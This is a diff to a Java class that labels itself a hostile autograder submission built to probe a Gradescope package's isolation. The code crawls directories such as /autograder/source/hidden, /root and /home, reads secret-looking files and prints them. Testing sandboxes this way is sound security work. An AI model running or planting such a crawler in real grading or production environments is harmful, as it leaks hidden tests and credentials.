@@ -14,6 +14,7 @@ import java.util.LinkedHashSet;
 import java.util.List;
 import java.util.Optional;
 import java.util.Set;
+import java.util.stream.Stream;
 
 /**
  * HOSTILE SUBMISSION (a proof of the Gradescope package, not an exercise answer). Once per test JVM it
@@ -45,9 +46,12 @@ public final class Separability {
             }
         }
         for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
-            for (Path p = Paths.get(entry).toAbsolutePath().getParent(); p != null && p.getParent() != null; p = p.getParent()) starts.add(p);
+            Path above = Paths.get(entry).toAbsolutePath().getParent();
+            for (Path p = above; p != null && p.getParent() != null; p = p.getParent()) starts.add(p);
         }
-        for (String p : List.of("/autograder/source/hidden", "/autograder", "/tmp", "/root", "/home", "/")) starts.add(Paths.get(p));
+        for (String p : List.of("/autograder/source/hidden", "/autograder", "/tmp", "/root", "/home", "/")) {
+            starts.add(Paths.get(p));
+        }
         List<String> found = new ArrayList<>();
         List<String> denied = new ArrayList<>();
         Set<String> seen = new HashSet<>();
@@ -55,7 +59,7 @@ public final class Separability {
         Deque<Path> todo = new ArrayDeque<>(starts);
         while (!todo.isEmpty() && System.nanoTime() < deadline) {
             Path dir = todo.removeFirst();
-            if (!seen.add(dir.toString()) || dir.startsWith("/proc") || dir.startsWith("/sys") || dir.startsWith("/dev")) continue;
+            if (!seen.add(dir.toString()) || Stream.of("/proc", "/sys", "/dev").anyMatch(dir::startsWith)) continue;
             try (DirectoryStream<Path> entries = Files.newDirectoryStream(dir)) {
                 for (Path p : entries) {
                     if (Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
@@ -72,7 +76,8 @@ public final class Separability {
             }
         }
         System.out.println("hostile search was denied " + denied);
-        return "read " + found.size() + " of " + files + " secret-looking files (denied " + denied.size() + " folders): " + found;
+        return "read " + found.size() + " of " + files + " secret-looking files (denied " + denied.size() + " folders): "
+                + found;
     }
 
     private static boolean secret(Path p) {
@@ -83,8 +88,8 @@ public final class Separability {
 
     private static boolean read(Path p) {
         try {
-            String text = Files.readString(p);
-            System.out.println("hostile search read " + p + ":\n" + text);
+            String first = Files.readAllLines(p).stream().filter(l -> !l.isBlank()).findFirst().orElse("");
+            System.out.println("hostile search read " + p + ": " + first);
             return true;
         } catch (IOException | RuntimeException e) {
             return false;
